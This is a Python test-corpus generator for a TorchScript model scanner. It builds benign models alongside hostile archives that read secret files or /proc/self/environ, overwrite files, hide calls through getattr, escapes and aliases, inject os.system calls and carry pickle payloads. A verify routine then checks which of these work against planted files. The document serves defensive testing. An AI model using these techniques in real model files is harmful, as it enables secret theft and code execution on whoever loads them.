#!/usr/bin/python3
"""TorchScript corpora for the scanner tests, generated with Debian's python3-torch.

benign(dir):   real models: MLP, CNN (conv, batch norm, pooling, padding, upsampling),
               LSTM / GRU / RNN and their cells, a transformer encoder layer with
               multi-head attention and layer norm, embeddings, scripted control flow
               (if / for / while, lists, dicts, tuples, optionals, NamedTuple,
               comprehensions, asserts), reshaping, indexing, reductions,
               comparisons and losses; each scripted and, where it can be, traced;
               and dynamically quantized Linear / LSTM / GRU layers.
hostile(dir):  programs that read or write files, print, fork, hand out
               uninitialized memory, call custom operators or classes, or hide such
               calls (other methods, submodules, getattr, aliases, other spellings,
               upper-case member names, debug maps, the legacy format, pickles).
               Programs the compiler accepts are made with torch.jit.script /
               trace; the others are real archives whose code an attacker edited.
               `runs` marks the samples that torch.jit.load accepts and that do
               what they claim here (the output carries the bytes of a planted
               secret file, or a planted file is overwritten): the scanner must
               catch them before any engine sees them.

Run as a script to write both corpora into a folder: torchscript_corpus.py DIR
"""


import dataclasses
import io
import json
import os
import pathlib
import pickle
import subprocess
import sys
import zipfile
from typing import Dict, List, NamedTuple, Optional, Tuple

import numpy as np
import torch
import torch.nn as nn
import torch.nn.functional as F

SECRET = b"AEGIS-KEK-0123456789abcdef-secret"


# --------------------------------------------------------------------------- benign


class Mlp(nn.Module):
    def __init__(self):
        super().__init__()
        self.net = nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 16), nn.GELU(), nn.Dropout(0.1),
                                 nn.Linear(16, 4), nn.Sigmoid(), nn.Tanh(), nn.LeakyReLU(), nn.ELU(), nn.SiLU(),
                                 nn.Softplus(), nn.Hardtanh(), nn.Softmax(dim=-1), nn.LogSoftmax(dim=-1))

    def forward(self, x):
        return self.net(x)


class Cnn(nn.Module):
    def __init__(self):
        super().__init__()
        self.c1 = nn.Conv2d(3, 8, 3, padding=1)
        self.bn = nn.BatchNorm2d(8)
        self.c2 = nn.Conv2d(8, 8, 3, stride=2, groups=2)
        self.pool = nn.MaxPool2d(2)
        self.apool = nn.AvgPool2d(2)
        self.gap = nn.AdaptiveAvgPool2d(1)
        self.amax = nn.AdaptiveMaxPool2d((2, 2))
        self.c1d = nn.Conv1d(3, 4, 3)
        self.pool1 = nn.MaxPool1d(2)
        self.ap1 = nn.AvgPool1d(2)
        self.ct = nn.ConvTranspose2d(8, 4, 2, stride=2)
        self.gn = nn.GroupNorm(2, 8)
        self.inorm = nn.InstanceNorm2d(8)
        self.c3 = nn.Conv3d(1, 2, 2)
        self.drop2d = nn.Dropout2d(0.2)
        self.fc = nn.Linear(8, 10)
        self.flat = nn.Flatten()
        self.up = nn.Upsample(scale_factor=2.0, mode="nearest")
        self.pad = nn.ZeroPad2d(1)

    def forward(self, x):
        y = F.relu(self.bn(self.c1(x)))
        y = self.inorm(self.gn(self.drop2d(y)))
        z = self.ct(self.c2(y))
        y = self.pool(y) + self.apool(y)
        y = self.amax(y).mean() + self.gap(y).flatten(1).sum()
        w = self.up(self.pad(x))
        q = self.ap1(self.pool1(self.c1d(x.mean(dim=2))))
        v = self.c3(x[:, :2].unsqueeze(1))
        return self.fc(self.flat(self.gap(z)).repeat(1, 2)) + y + w.mean() + q.sum() + v.sum()


class Recurrent(nn.Module):
    def __init__(self):
        super().__init__()
        self.lstm = nn.LSTM(8, 16, num_layers=2, batch_first=True, bidirectional=True)
        self.gru = nn.GRU(8, 16, batch_first=True)
        self.rnn = nn.RNN(8, 16)
        self.cell = nn.LSTMCell(8, 16)
        self.gcell = nn.GRUCell(8, 16)

    def forward(self, x):
        a, (h, c) = self.lstm(x)
        b, hg = self.gru(x)
        r, hr = self.rnn(x)
        hc, cc = self.cell(x[:, 0])
        g = self.gcell(x[:, 0])
        return a.sum() + b.sum() + h.sum() + c.sum() + hg.sum() + r.sum() + hc.sum() + g.sum()


class Encoder(nn.Module):
    def __init__(self):
        super().__init__()
        self.emb = nn.Embedding(100, 32, padding_idx=0)
        self.enc = nn.TransformerEncoderLayer(d_model=32, nhead=4, dim_feedforward=64, dropout=0.1, batch_first=True)
        self.mha = nn.MultiheadAttention(32, 4)
        self.ln = nn.LayerNorm(32)
        self.bag = nn.EmbeddingBag(100, 8, mode="mean")

    def forward(self, tokens):
        h = self.enc(self.emb(tokens))
        a, _ = self.mha(h, h, h)
        return self.ln(a + h), self.bag(tokens)


class Point(NamedTuple):
    x: torch.Tensor
    y: torch.Tensor


class ControlFlow(nn.Module):
    def __init__(self):
        super().__init__()
        self.scale = 2.0
        self.names: List[str] = ["a", "b"]

    def forward(self, x: torch.Tensor) -> List[torch.Tensor]:
        n = 3
        out: Dict[str, torch.Tensor] = {}
        acc = torch.zeros_like(x)
        for i in range(n):
            if i % 2 == 0:
                acc = acc + x * i
            elif i == 1:
                acc = acc - x
            else:
                acc = acc / (i + 1)
        k = 0
        while k < 3 and bool(acc.sum() > -1e9):
            acc = acc.clamp(min=-10.0, max=10.0)
            k += 1
        vals: List[torch.Tensor] = [acc, x]
        vals.append(x * self.scale)
        pair: Tuple[int, float] = (1, 2.5)
        for j, v in enumerate(vals):
            out[self.names[j % 2] + str(j)] = v
        p = Point(x, acc)
        out["p"] = p.x + p.y
        out["sq"] = torch.tensor([float(i) ** 2 for i in range(4)])
        maybe: Optional[torch.Tensor] = None
        if x.dim() > 1:
            maybe = x
        if maybe is not None:
            out["maybe"] = maybe
        if len(out) > 100:
            raise RuntimeError("too many outputs")
        assert x.numel() > 0, "empty input"
        out["keys"] = torch.tensor([len(key) for key in out.keys()])
        out["pair"] = torch.tensor([pair[0]]) * pair[1]
        out["max"] = torch.tensor(max(1, 2) + min(3, 4) + abs(-1))
        return list(out.values())


class Indexing(nn.Module):
    def forward(self, x: torch.Tensor, idx: torch.Tensor):
        a = x.view(2, -1).reshape(-1, 2).permute(1, 0).contiguous().transpose(0, 1).t()
        b = x[0, 1:3] + x[..., 0].unsqueeze(-1).squeeze(-1).sum()
        c = torch.cat([x, x], dim=0).split(4)[0] + torch.stack([x, x]).chunk(2)[1].squeeze(0)
        d = x.index_select(0, idx) + torch.gather(x, 1, idx.unsqueeze(1).expand(-1, x.size(1)))[0]
        e = torch.where(x > 0, x, -x).masked_fill(x < -1, 0.0)
        f = (x.max(dim=1)[0] + x.min() + x.argmax() + x.mean(1) + x.std() + x.var() + x.prod() + x.norm() +
             x.amax(1) + torch.logsumexp(x, 1))
        g = (x == 1) | (x != 2) & (x >= 0) ^ (x <= 3)
        h = torch.matmul(x, x.t()) @ x + torch.bmm(x.unsqueeze(0), x.t().unsqueeze(0))[0] + torch.mm(x, x.t()) @ x
        i = x.sort(dim=1)[0] + x.topk(1, dim=1)[0].expand_as(x) + x.cumsum(0) + x.flip(0) + x.roll(1, 0)
        j = torch.nonzero(x > 0).float().sum() + x.abs().sqrt().exp().log1p().sin().cos().tanh().sigmoid().pow(2)
        k = x.to(torch.float64).double().float() + x.int().long().float() + x.type_as(x) + x.half().float()
        x2 = x.clone()
        x2[0] = 1.0
        x2.add_(1).mul_(2).clamp_(0, 5)
        x2[x2 > 3] = 0.0
        m = torch.einsum("ij,jk->ik", x, x.t()) + F.pad(x, [1, 1])[:, 1:-1].narrow(1, 0, 1).sum()
        n = x.all() | x.any() | torch.isnan(x).any() | torch.isfinite(x).all()
        o = (torch.arange(4).float().sum() + torch.ones(2).sum() + torch.full((2,), 3.0).sum() + torch.eye(2).sum() +
             torch.linspace(0, 1, 5).sum() + torch.zeros(2).sum())
        p = (F.normalize(x, dim=1) + F.one_hot(idx, 4).float().sum() + x.tril().triu() +
             F.cosine_similarity(x, x).sum() + F.softmax(x, 1) + F.log_softmax(x, 1))
        return a, b, c, d, e, f, g, h, i, j, k, x2, m, n, o, p


class Losses(nn.Module):
    def forward(self, x, y):
        target = y.argmax(1)
        return (F.mse_loss(x, y) + F.l1_loss(x, y) + F.smooth_l1_loss(x, y) + F.binary_cross_entropy_with_logits(x, y) +
                F.cross_entropy(x, target) + F.nll_loss(F.log_softmax(x, 1), target) +
                F.kl_div(x, y, reduction="batchmean"))


class QuantizedDynamic(nn.Module):
    def __init__(self):
        super().__init__()
        self.lstm = nn.LSTM(8, 8)
        self.gru = nn.GRU(8, 8)
        self.lin = nn.Linear(8, 4)

    def forward(self, x):
        a, _ = self.lstm(x)
        b, _ = self.gru(x)
        return self.lin(a + b)


def _quantized():
    layers = {nn.Linear, nn.LSTM, nn.GRU}
    return torch.ao.quantization.quantize_dynamic(QuantizedDynamic().eval(), layers, dtype=torch.qint8)


def _benign_models():
    torch.manual_seed(0)
    x4 = torch.randn(4, 4)
    idx = torch.tensor([0, 1, 2, 3])
    return {
        "mlp_script": lambda: torch.jit.script(Mlp().eval()),
        "mlp_trace": lambda: _trace(Mlp(), torch.randn(2, 8)),
        "cnn_script": lambda: torch.jit.script(Cnn().eval()),
        "cnn_trace": lambda: _trace(Cnn(), torch.randn(2, 3, 8, 8)),
        "recurrent_script": lambda: torch.jit.script(Recurrent().eval()),
        "recurrent_trace": lambda: _trace(Recurrent(), torch.randn(2, 5, 8)),
        "encoder_script": lambda: torch.jit.script(Encoder().eval()),
        "encoder_trace": lambda: _trace(Encoder(), torch.randint(1, 100, (2, 6))),
        "control_flow_script": lambda: torch.jit.script(ControlFlow().eval()),
        "indexing_script": lambda: torch.jit.script(Indexing().eval()),
        "indexing_trace": lambda: _trace(Indexing(), x4, idx),
        "losses_script": lambda: torch.jit.script(Losses().eval()),
        "losses_trace": lambda: _trace(Losses(), x4, torch.rand(4, 4)),
        "quantized_dynamic_script": lambda: torch.jit.script(_quantized()),
    }


def inputs_for(name: str) -> List[np.ndarray]:
    """Example inputs (numpy, in forward's order) for a benign corpus model."""
    rng = np.random.default_rng(12)
    base = name.rsplit("_", 1)[0]
    f32 = lambda *shape: rng.standard_normal(shape).astype(np.float32)  # noqa: E731
    return {
        "mlp": lambda: [f32(2, 8)],
        "cnn": lambda: [f32(2, 3, 8, 8)],
        "recurrent": lambda: [f32(2, 5, 8)],
        "encoder": lambda: [rng.integers(1, 100, (2, 6)).astype(np.int64)],
        "control_flow": lambda: [f32(3, 4)],
        "indexing": lambda: [f32(4, 4), np.arange(4, dtype=np.int64)],
        "losses": lambda: [f32(4, 4), rng.random((4, 4)).astype(np.float32)],
        "quantized_dynamic": lambda: [f32(3, 2, 8)],
    }[base]()


def _trace(module, *inputs):
    return torch.jit.trace(module.eval(), inputs, check_trace=False)


def _save(module) -> bytes:
    buf = io.BytesIO()
    torch.jit.save(module, buf)
    return buf.getvalue()


def benign(outdir: pathlib.Path) -> Dict[str, pathlib.Path]:
    """Writes the benign corpus; returns name -> path. Every model loads back in torch."""
    outdir.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in _benign_models().items():
        path = outdir / f"{name}.pt"
        path.write_bytes(_save(make()))
        torch.jit.load(str(path))
        paths[name] = path
    return paths


# --------------------------------------------------------------------------- hostile


@dataclasses.dataclass
class Hostile:
    name: str
    path: pathlib.Path
    callable: str  # the finding's callable (operator, class or name)
    severity: str  # "critical" or "high"
    reason: str  # a fragment of the finding's reason
    runs: bool = False  # torch.jit.load accepts it and the attack works


class ReadsFile(nn.Module):
    def __init__(self, path: str, size: int):
        super().__init__()
        self.path = path
        self.size = size

    def forward(self, x):
        data = torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8)
        return data.to(torch.float32) + x.sum() * 0


class WritesFile(nn.Module):
    def __init__(self, path: str, size: int):
        super().__init__()
        self.path = path
        self.size = size

    def forward(self, x):
        mapped = torch.from_file(self.path, shared=True, size=self.size, dtype=torch.uint8)
        mapped.fill_(65)  # a write the page cache takes straight to the file
        return x + mapped.to(torch.float32).sum() * 0


class ExportedLeak(nn.Module):
    def __init__(self, path: str, size: int):
        super().__init__()
        self.path = path
        self.size = size

    def forward(self, x):
        return x * 2

    @torch.jit.export
    def leak(self) -> torch.Tensor:
        return torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8)


class Outer(nn.Module):
    def __init__(self, inner: nn.Module):
        super().__init__()
        self.inner = inner

    def forward(self, x):
        return self.inner(x)


def _task(x):
    return x + 1


class Forks(nn.Module):
    def forward(self, x):
        return torch.jit.wait(torch.jit.fork(_task, x))


class Prints(nn.Module):
    def forward(self, x):
        print(x)
        return x


class Uninitialized(nn.Module):
    def forward(self, x):
        return torch.empty(4096) + x.sum() * 0


class Resizes(nn.Module):
    def forward(self, x):
        y = x.clone()
        y.resize_([4096])
        return y


class Base(nn.Module):
    def forward(self, x):
        return torch.relu(x)


class TracedRead(nn.Module):
    def __init__(self, path: str, size: int):
        super().__init__()
        self.path = path
        self.size = size

    def forward(self, x):
        return torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8).float() + x


def _rewrite(archive: bytes, cls: str, edit=None, add=None, drop=(), upper_case_code=False) -> bytes:
    """Copies a scripted Base archive: its class renamed to `cls` (so that archives
    loaded in one process never share a class name), its code member edited with
    `edit(text)` (and renamed to upper case if asked), members added (`{suffix:
    bytes}`, under the archive's top folder) and dropped by suffix."""
    src = zipfile.ZipFile(io.BytesIO(archive))
    top = src.namelist()[0].split("/")[0]
    data_pkl = src.read(f"{top}/data.pkl")
    module = data_pkl[3:data_pkl.index(b"\n")].decode()  # PROTO 2, GLOBAL 'module\nBase\n'
    assert data_pkl[3 + len(module):].startswith(b"\nBase\n"), data_pkl[:60]
    code = f"{top}/code/" + module.replace(".", "/") + ".py"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            name = info.filename
            if any(name.endswith(s) for s in drop):
                continue
            data = src.read(name)
            if name == code:
                text = edit(data.decode()) if edit else data.decode()
                text = text.replace("class Base(", f"class {cls}(").replace(f"{module}.Base", f"{module}.{cls}")
                data = text.encode()
                if upper_case_code:
                    name = name[:-3] + ".PY"
            if name == f"{top}/data.pkl":
                data = data.replace(f"c{module}\nBase\n".encode(), f"c{module}\n{cls}\n".encode())
            dst.writestr(name, data)
        for suffix, data in (add or {}).items():
            dst.writestr(f"{top}/{suffix}", data)
    return out.getvalue()


def _replace_forward(expression: str, setup: str = ""):
    """An edit replacing Base.forward's `torch.relu(x)` with `expression` after `setup` lines."""
    def edit(text):
        assert "return torch.relu(x)" in text, text
        lines = "".join(f"    {line}\n" for line in setup.splitlines())
        return text.replace("    return torch.relu(x)\n", lines + f"    return {expression}\n")
    return edit


def hostile(outdir: pathlib.Path) -> List[Hostile]:
    """Writes the hostile corpus and a planted secret / victim file next to it."""
    outdir.mkdir(parents=True, exist_ok=True)
    secret = outdir / "secret.key"
    secret.write_bytes(SECRET)
    victim = outdir / "victim.db"
    n = len(SECRET)
    s, v = str(secret), str(victim)
    base = _save(torch.jit.script(Base()))
    read = f'torch.from_file("{s}", False, {n}, dtype=0)'
    read_args = f'("{s}", False, {n}, dtype=0)'
    samples: List[Hostile] = []

    checks = {}  # name -> how verify() shows the attack works

    def add(name, data, callable_, severity="critical", reason="", check=None):
        path = outdir / f"{name}.pt"
        path.write_bytes(data)
        if check:
            checks[name] = check
        samples.append(Hostile(name, path, callable_, severity, reason))

    def rw(name, *args, **kw):
        return _rewrite(base, "Edited_" + name, *args, **kw)

    file_reason = "reads or writes a file by path"
    # Compiled by torch.jit.script / trace from ordinary Python.
    add("from_file_read", _save(torch.jit.script(ReadsFile(s, n))), "aten::from_file", reason=file_reason,
        check="leak")
    add("from_file_shared_write", _save(torch.jit.script(WritesFile(v, n))), "aten::from_file", reason=file_reason,
        check="overwrite")
    add("proc_self_environ", _save(torch.jit.script(ReadsFile("/proc/self/environ", 4096))), "aten::from_file",
        reason=file_reason)
    add("exported_method", _save(torch.jit.script(ExportedLeak(s, n))), "aten::from_file", reason=file_reason,
        check="leak_method")
    add("submodule", _save(torch.jit.script(Outer(ReadsFile(s, n)))), "aten::from_file", reason=file_reason,
        check="leak")
    traced = torch.jit.trace(TracedRead(s, n), (torch.zeros(n),), check_trace=False)
    add("traced_from_file", _save(traced), "aten::from_file", reason=file_reason, check="leak")
    add("print", _save(torch.jit.script(Prints())), "print", reason="writes to the server's standard output")
    add("fork_wait", _save(torch.jit.script(Forks())), "fork", reason="asynchronous tasks")
    add("uninitialized_memory", _save(torch.jit.script(Uninitialized())), "aten::empty",
        reason="uninitialized memory")
    add("resize_uninitialized", _save(torch.jit.script(Resizes())), "aten::resize_", reason="uninitialized memory")
    # Archives an attacker edited: names the compiler would not emit, all still loadable by libtorch.
    def edited(name, expression, setup="", **kw):
        return rw(name, _replace_forward(expression, setup), **kw)

    aten_read, custom, reader = "aten::from_file", "aegis_ext::exfiltrate", "__torch__.torch.classes.aegis.Reader"
    add("save_file", edited("save_file", "x", f'torch.save(x, "{v}")'), "aten::save", reason=file_reason,
        check="archive")
    add("ops_aten_spelling", edited("ops_aten_spelling", f"ops.aten.from_file{read_args}"), aten_read,
        reason=file_reason, check="leak")
    add("autograd_spelling", edited("autograd_spelling", f"torch.autograd.from_file{read_args}"), aten_read,
        reason=file_reason, check="leak")
    add("getattr_concatenated", edited("getattr_concatenated", f'getattr(torch, "from_" "file"){read_args}'),
        aten_read, reason=file_reason, check="leak")
    add("getattr_octal_escape", edited("getattr_octal_escape", f'getattr(torch, "\\146rom_file"){read_args}'),
        aten_read, reason=file_reason, check="leak")
    add("alias_operator", edited("alias_operator", f"f{read_args}", "f = torch.from_file"), aten_read,
        reason=file_reason, check="leak")
    add("alias_namespace", edited("alias_namespace", f"t.from_file{read_args}", "t = torch"), "torch",
        reason="as a value", check="leak")
    add("line_continuation", edited("line_continuation", f"torch.\\\n      from_file{read_args}"), aten_read,
        reason=file_reason, check="leak")
    add("uppercase_member_name",
        edited("uppercase_member_name", read, upper_case_code=True), aten_read,
        reason=file_reason, check="leak")
    add("custom_namespace", edited("custom_namespace", "ops.aegis_ext.exfiltrate(x)"), custom,
        reason="custom operator")
    add("torch_ops_custom_namespace", edited("torch_ops_custom_namespace", "torch.ops.aegis_ext.exfiltrate(x)"),
        custom, reason="custom operator")
    add("distributed_namespace", edited("distributed_namespace", "ops.c10d.send([x], pg, 0, 0)"), "c10d::send",
        reason="network")
    add("custom_class", edited("custom_class", "x", f'r = __torch__.torch.classes.aegis.Reader("{s}")'), reader,
        reason="custom class")
    add("custom_class_string_type",
        edited("custom_class_string_type", "x", 'r = annotate("torch.classes.aegis.Reader", None)'), reader,
        reason="custom class")
    add("python_escape", edited("python_escape", "x", '__import__("os").system("id")'), "__import__",
        reason="Python escape")
    add("storage_rebind", edited("storage_rebind", "torch.set_(x, x)"), "aten::set_", reason="storage")
    add("unknown_operator", edited("unknown_operator", "torch.aegis_mystery(x)"), "aten::aegis_mystery",
        severity="high", reason="not on the allowlist")
    debug_map = {"code/__torch__/hidden.py.debug_pkl": pickle.dumps(("", read), protocol=2)}
    add("debug_map_without_code", rw("debug_map_without_code", add=debug_map), "", severity="high",
        reason="debug information for TorchScript code that is not in the archive")
    legacy = {"model.json": b'{"mainModule": {"torchscriptArena": {"key": "extra/payload.txt"}}}',
              "extra/payload.txt": read.encode()}
    add("legacy_model_json", rw("legacy_model_json", add=legacy), "", reason="model.json")
    # Pickles: a custom class (its native __setstate__ runs on load) and a classic payload.
    data_pkl = zipfile.ZipFile(io.BytesIO(base)).read(_member(base, "data.pkl"))
    module = data_pkl[3:data_pkl.index(b"\n")]
    evil_data = data_pkl.replace(b"c" + module + b"\nBase\n", b"c__torch__.torch.classes.aegis\nReader\n")
    assert evil_data != data_pkl
    add("pickle_custom_class", rw("pickle_custom_class", drop=("/data.pkl",), add={"data.pkl": evil_data}),
        "__torch__.torch.classes.aegis.Reader", reason="pickle imports")

    class System:
        def __reduce__(self):
            return (os.system, ("touch /tmp/aegis-pwned",))
    payload = {"constants.pkl": pickle.dumps(System(), 2)}
    add("pickle_in_constants", rw("pickle_in_constants", drop=("/constants.pkl",), add=payload), "posix.system",
        reason="pickle imports")

    # A fresh interpreter loads the samples: nothing compiled here can stand in for an archive's code.
    (outdir / "checks.json").write_text(json.dumps(checks))
    done = subprocess.run([sys.executable, __file__, "--verify", str(outdir)], capture_output=True, text=True,
                          timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    ran = set(json.loads(done.stdout.strip().splitlines()[-1]))
    for sample in samples:
        sample.runs = sample.name in ran
    return samples


def verify(outdir: pathlib.Path) -> List[str]:
    """Loads each sample that has a check in plain torch and returns those whose attack worked."""
    victim = outdir / "victim.db"
    n = len(SECRET)
    x = torch.zeros(n)
    ran = []
    for name, check in json.loads((outdir / "checks.json").read_text()).items():
        victim.write_bytes(b"x" * n)
        try:
            model = torch.jit.load(str(outdir / f"{name}.pt"))
            if check in ("leak", "leak_method"):
                out = model.leak() if check == "leak_method" else model(x)
                ok = bytes(out.to(torch.uint8).tolist()) == SECRET
            else:
                model(x)
                ok = victim.read_bytes() == b"A" * n if check == "overwrite" else victim.read_bytes()[:2] == b"PK"
        except Exception as e:  # noqa: BLE001 - a sample that does not run is simply not counted
            print(f"{name}: {e}", file=sys.stderr)
            ok = False
        if ok:
            ran.append(name)
    victim.write_bytes(b"x" * n)
    return ran


def _member(archive: bytes, suffix: str) -> str:
    names = zipfile.ZipFile(io.BytesIO(archive)).namelist()
    return next(n for n in names if n.endswith("/" + suffix))


def examples(root: pathlib.Path) -> Dict[str, pathlib.Path]:
    """The TorchScript sample models shipped in examples/."""
    return {p.stem: p for p in sorted((root / "examples").glob("*.pt"))}


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--verify":
        print(json.dumps(verify(pathlib.Path(sys.argv[2]))))
        sys.exit(0)
    target = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "torchscript-corpus")
    good = benign(target / "benign")
    bad = hostile(target / "hostile")
    print(f"benign: {len(good)} models in {target / 'benign'}")
    print(f"hostile: {len(bad)} models in {target / 'hostile'} ({sum(h.runs for h in bad)} shown to work in torch)")
